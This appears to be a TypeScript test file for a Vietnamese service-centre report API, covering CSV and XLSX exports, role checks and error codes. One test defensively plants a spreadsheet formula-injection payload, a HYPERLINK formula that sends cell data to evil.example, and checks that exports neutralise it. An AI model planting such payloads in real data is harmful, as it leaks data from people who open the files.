/**
 * The report API over the constructed day of scenario.ts: the JSON figures, the CSV (BOM,
 * Vietnamese headers, the same numbers) and the XLSX (read back with ExcelJS, cell by cell),
 * who may see reports, and the stable codes for bad queries.
 */
import t from 'tap'
import ExcelJS from 'exceljs'
import type { ReportSummary } from '../../shared/reports.js'
import { aUser, build, login } from '../helpers/build.js'
import { local, playScenario } from './scenario.js'

const MIN = 60_000
const RANGE = 'from=2026-11-23&to=2026-11-24'

async function setup(t: Parameters<typeof build>[0]) {
  const built = await build(t)
  const { ids } = await playScenario(built.app, built.clock)
  built.clock.set(local(25, 9, 0))
  const manager = await login(built.app, 'lanhdao')
  return { ...built, ids, manager }
}

t.test('GET /api/reports/summary gives a manager every figure', async (t) => {
  const { app, manager, ids } = await setup(t)
  const res = await app.inject({ method: 'GET', url: `/api/reports/summary?${RANGE}&serviceId=&counterId=`, headers: manager.headers })
  t.equal(res.statusCode, 200, res.body)
  const r = res.json() as ReportSummary
  t.match(r.totals, { issued: 7, served: 4, noShow: 1, cancelled: 1, transferred: 1, closed: 1, returned: 1, recalls: 2 })
  t.same(r.totals.wait, { count: 6, mean: 19 * MIN, median: 12.5 * MIN, p90: 40 * MIN, max: 60 * MIN })
  t.same(r.query, { from: '2026-11-23', to: '2026-11-24', serviceId: null, counterId: null, staffId: null, priorityGroupId: null })
  t.equal(r.timeZone, 'Asia/Ho_Chi_Minh')
  t.ok(
    r.lookups.services.some((s) => s.id === ids.DD && s.nameVi === 'Đất đai'),
    'names for the filters come along',
  )

  const ht = await app.inject({ method: 'GET', url: `/api/reports/summary?${RANGE}&serviceId=${ids.HT}`, headers: manager.headers })
  t.match(ht.json(), { totals: { issued: 2, served: 2 }, query: { serviceId: ids.HT } })
})

t.test('the CSV opens in Excel: BOM, Vietnamese headers, the same numbers', async (t) => {
  const { app, manager, ids } = await setup(t)
  const res = await app.inject({ method: 'GET', url: `/api/reports/export.csv?${RANGE}`, headers: manager.headers })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^text\/csv; charset=utf-8/)
  t.match(res.headers['content-disposition'], /attachment; filename="bao-cao-thoi-gian-cho_2026-11-23_2026-11-24\.csv"/)
  const bytes = res.rawPayload
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark')
  const lines = bytes.subarray(3).toString('utf8').split('\r\n')
  const header = lines[0]!.split(',')
  t.same(header.slice(0, 4), ['Nhóm', 'Mục', 'Số phiếu cấp', 'Đã phục vụ'])
  t.ok(header.includes('Chờ trung vị (phút)') && header.includes('Được gọi trong thời gian chờ mục tiêu (%)'))
  const rows = lines.slice(1).map((l) => l.split(','))
  const col = (name: string) => header.indexOf(name)
  const total = rows.find((r) => r[0] === 'Tổng hợp')!
  t.equal(total[col('Số phiếu cấp')], '7')
  t.equal(total[col('Đã phục vụ')], '4')
  t.equal(total[col('Chờ trung bình (phút)')], '19')
  t.equal(total[col('Chờ trung vị (phút)')], '12.5')
  t.equal(total[col('Chờ phân vị 90 (phút)')], '40')
  t.equal(total[col('Được gọi trong thời gian chờ mục tiêu (%)')], '83.3', '5 of 6 called within target')
  const land = rows.find((r) => r[0] === 'Theo lĩnh vực' && r[1] === 'DD – Đất đai')!
  t.equal(land[col('Số phiếu cấp')], '3')
  t.equal(land[col('Chờ phân vị 90 (phút)')], '52')
  t.ok(
    rows.some((r) => r[0] === 'Theo giờ' && r[1] === '00:00–00:59'),
    'the 00:01 ticket is in hour 0',
  )
  t.ok(rows.some((r) => r[0] === 'Theo ngày' && r[1] === '2026-11-24' && r[col('Số phiếu cấp')] === '1'))
  t.ok(ids.DD > 0)
})

t.test('the CSV for Excel with Vietnamese regional settings: semicolons between columns, decimal commas', async (t) => {
  const { app, manager } = await setup(t)
  const res = await app.inject({ method: 'GET', url: `/api/reports/export.csv?${RANGE}&sep=semicolon`, headers: manager.headers })
  t.equal(res.statusCode, 200)
  const bytes = res.rawPayload
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark')
  const lines = bytes.subarray(3).toString('utf8').split('\r\n')
  const header = lines[0]!.split(';')
  t.same(header.slice(0, 4), ['Nhóm', 'Mục', 'Số phiếu cấp', 'Đã phục vụ'])
  t.equal(header.length, lines[1]!.split(';').length, 'every row has as many cells as the header')
  const col = (name: string) => header.indexOf(name)
  const total = lines
    .slice(1)
    .map((l) => l.split(';'))
    .find((r) => r[0] === 'Tổng hợp')!
  t.equal(total[col('Số phiếu cấp')], '7')
  t.equal(total[col('Chờ trung vị (phút)')], '12,5', 'a decimal comma')
  t.equal(total[col('Được gọi trong thời gian chờ mục tiêu (%)')], '83,3')
  t.notOk(
    lines.some((l) => /\d\.\d/.test(l) && !/\d{4}-\d{2}-\d{2}/.test(l)),
    'no decimal point left outside the dates',
  )

  const bad = await app.inject({ method: 'GET', url: `/api/reports/export.csv?${RANGE}&sep=tab`, headers: manager.headers })
  t.equal(bad.statusCode, 400)
  t.equal(bad.json().code, 'bad_request', 'an unknown separator is refused with a stable code')
})

/** The workbook of a response, read back with ExcelJS as Excel would open it. */
async function workbookOf(payload: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(payload as unknown as ArrayBuffer)
  return book
}

t.test('the XLSX is a real workbook: the centre and period on top, frozen headers, dates, numbers and percentages', async (t) => {
  const { app, manager } = await setup(t)
  app.storage.sqlite.prepare("update sites set name = 'Trung tâm Phục vụ hành chính công tỉnh Quảng Trị' where id = 1").run()
  const res = await app.inject({ method: 'GET', url: `/api/reports/export.xlsx?${RANGE}`, headers: manager.headers })
  t.equal(res.statusCode, 200)
  t.equal(res.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
  const book = await workbookOf(res.rawPayload)
  t.same(
    book.worksheets.map((s) => s.name),
    ['Tổng hợp', 'Theo lĩnh vực', 'Theo quầy', 'Theo cán bộ', 'Theo đối tượng', 'Theo giờ', 'Theo thứ', 'Theo ngày', 'Cán bộ theo ngày'],
  )
  for (const sheet of book.worksheets) {
    t.equal(sheet.getCell('A1').value, 'Trung tâm Phục vụ hành chính công tỉnh Quảng Trị', `${sheet.name}: the centre on top`)
    t.equal(sheet.getCell('A2').value, 'Báo cáo thời gian chờ từ ngày 23/11/2026 đến ngày 24/11/2026', `${sheet.name}: and the period`)
  }

  const summary = book.getWorksheet('Tổng hợp')!
  t.equal(summary.getCell('A3').value, 'Từ ngày')
  t.equal(summary.getCell('B3').type, ExcelJS.ValueType.Date, 'the first day is an Excel date')
  t.same(summary.getCell('B3').value, new Date(Date.UTC(2026, 10, 23)))
  t.equal(summary.getCell('B3').numFmt, 'dd/mm/yyyy')
  t.equal(summary.getCell('B5').value, 'Tất cả')
  // Two title rows, six filter rows, a blank row, then the header on row 10 and the total on row 11.
  t.equal(summary.getCell('A10').value, 'Phạm vi')
  t.equal(summary.getCell('B10').value, 'Số phiếu cấp')
  t.match(summary.views[0], { state: 'frozen', ySplit: 10, xSplit: 1, topLeftCell: 'B11' }, 'the header row and the first column stay in view')
  t.equal(summary.getCell('B11').value, 7)
  t.equal(summary.getCell('B11').type, ExcelJS.ValueType.Number)
  t.equal(summary.getCell('C11').value, 4)
  t.equal(summary.getCell('J11').value, 19, 'mean wait in minutes, a number')
  t.equal(summary.getCell('J11').numFmt, '0.0')
  t.equal(summary.getCell('K11').value, 12.5)
  t.equal(summary.getCell('R11').value, 0.833, 'share as a fraction…')
  t.equal(summary.getCell('R11').numFmt, '0.0%', '…shown as a percentage by its format')

  const byService = book.getWorksheet('Theo lĩnh vực')!
  t.equal(byService.getCell('A4').value, 'Lĩnh vực')
  t.equal(byService.getCell('A5').value, 'DD – Đất đai')
  t.equal(byService.getCell('B5').value, 3)
  t.equal(byService.getCell('L5').value, 52, 'DD 90th percentile wait')
  const byDay = book.getWorksheet('Theo ngày')!
  t.equal(byDay.getCell('A6').type, ExcelJS.ValueType.Date, 'days are Excel dates, not text')
  t.same(byDay.getCell('A6').value, new Date(Date.UTC(2026, 10, 24)))
  t.equal(byDay.getCell('A6').numFmt, 'dd/mm/yyyy')
  t.equal(byDay.getCell('B6').value, 1)
})

t.test('a name that reads as a formula stays text in the CSV and the XLSX', async (t) => {
  const { app, manager, ids } = await setup(t)
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
  app.storage.sqlite.prepare('update users set display_name = ? where id = ?').run(evil, ids.canbo3)
  app.storage.sqlite.prepare('update counters set name = ? where id = ?').run('@SUM(1+1)', ids.counter3)
  const csv = await app.inject({ method: 'GET', url: `/api/reports/export.csv?${RANGE}`, headers: manager.headers })
  const lines = csv.rawPayload.subarray(3).toString('utf8').split('\r\n')
  const staffLine = lines.find((l) => l.startsWith('Theo cán bộ,') && l.includes('HYPERLINK'))
  t.ok(staffLine, 'the staff member is in the CSV')
  t.ok(staffLine!.startsWith(`Theo cán bộ,"'=HYPERLINK(`), 'behind an apostrophe, so Excel reads text')
  t.notOk(
    lines.some((l) => /(^|[,;])"?[=+@-]/.test(l)),
    'no CSV cell starts with = + - @',
  )
  t.ok(
    lines.some((l) => l.startsWith("Theo quầy,'@SUM(1+1)")),
    'the counter too',
  )

  const xlsx = await app.inject({ method: 'GET', url: `/api/reports/export.xlsx?${RANGE}`, headers: manager.headers })
  const book = await workbookOf(xlsx.rawPayload)
  const staff = book.getWorksheet('Theo cán bộ')!
  const cells: ExcelJS.Cell[] = []
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((c) => cells.push(c))))
  t.equal(cells.filter((c) => c.type === ExcelJS.ValueType.Formula).length, 0, 'no formula anywhere in the workbook')
  const name = staff.getColumn(1).values.find((v) => typeof v === 'string' && v.includes('HYPERLINK'))
  t.equal(name, `'${evil}`, 'the name is text with the apostrophe')
})

t.test('reports are for managers and administrators only', async (t) => {
  const { app } = await setup(t)
  for (const path of ['summary', 'export.csv', 'export.xlsx']) {
    const url = `/api/reports/${path}?${RANGE}`
    t.equal((await app.inject({ method: 'GET', url })).statusCode, 401, `${path}: not logged in`)
    const staff = await login(app, 'canbo1')
    const refused = await app.inject({ method: 'GET', url, headers: staff.headers })
    t.equal(refused.statusCode, 403, `${path}: counter staff`)
    t.equal(refused.json().code, 'forbidden')
  }
  const admin = await aUser(app, 'admin')
  t.equal((await app.inject({ method: 'GET', url: `/api/reports/summary?${RANGE}`, headers: admin.headers })).statusCode, 200)
})

t.test('bad queries answer 400 with a stable code, never 500', async (t) => {
  const { app, manager } = await setup(t)
  const cases: [string, string][] = [
    ['from=2026-11-31&to=2026-12-01', 'report_bad_date'],
    ['from=hôm-nay&to=2026-12-01', 'report_bad_date'],
    ['from=2026-11-24&to=2026-11-23', 'report_range_reversed'],
    ['from=2024-01-01&to=2026-01-01', 'report_range_too_long'],
    [`${RANGE}&serviceId=999`, 'report_unknown_filter'],
    [`${RANGE}&staffId=abc`, 'report_unknown_filter'],
    ['to=2026-11-24', 'bad_request'],
  ]
  for (const [query, code] of cases) {
    for (const path of ['summary', 'export.csv', 'export.xlsx']) {
      const res = await app.inject({ method: 'GET', url: `/api/reports/${path}?${query}`, headers: manager.headers })
      t.equal(res.statusCode, 400, `${path}?${query}`)
      t.equal(res.json().code, code, `${path}?${query}`)
    }
  }
})

t.test('staff are listed in Vietnamese alphabetical order (Đ after D), not byte order', async (t) => {
  const { app, manager } = await setup(t)
  const names = ['Đặng Văn Khoa', 'Dương Thị Hạnh', 'Bùi Minh Châu', 'Ánh Nguyệt']
  const insert = app.storage.sqlite.prepare(
    "insert into users (site_id, username, display_name, password_hash, role, created_at) values (1, ?, ?, 'x', 'staff', 0)",
  )
  names.forEach((n, i) => insert.run(`sort${i}`, n))
  const res = await app.inject({ method: 'GET', url: `/api/reports/summary?${RANGE}`, headers: manager.headers })
  const listed = (res.json() as ReportSummary).lookups.staff.map((s) => s.displayName).filter((n) => names.includes(n))
  t.same(listed, ['Ánh Nguyệt', 'Bùi Minh Châu', 'Dương Thị Hạnh', 'Đặng Văn Khoa'])
})
